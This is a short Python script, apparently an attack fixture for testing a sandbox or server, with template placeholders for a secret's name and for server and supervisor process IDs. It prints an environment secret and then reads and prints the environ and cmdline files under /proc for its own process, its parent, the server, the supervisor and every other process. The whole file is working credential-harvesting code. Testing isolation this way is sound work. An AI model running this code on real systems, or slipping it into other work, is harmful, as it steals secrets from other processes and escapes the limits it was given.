"""Read /proc/*/environ and cmdline of every process for the server's secret."""
# ruff: noqa -- hostile data, not project code: written to attack, not to be linted
import os
print(os.environ.get("@SECRET_NAME@"))
for pid in ["self", str(os.getppid()), "@SERVER_PID@", "@SUPERVISOR_PID@"] + os.listdir("/proc"):
    for name in ("environ", "cmdline"):
        try:
            print(pid, name, open(f"/proc/{pid}/{name}", "rb").read())
        except Exception as e:
            print(pid, name, type(e).__name__)
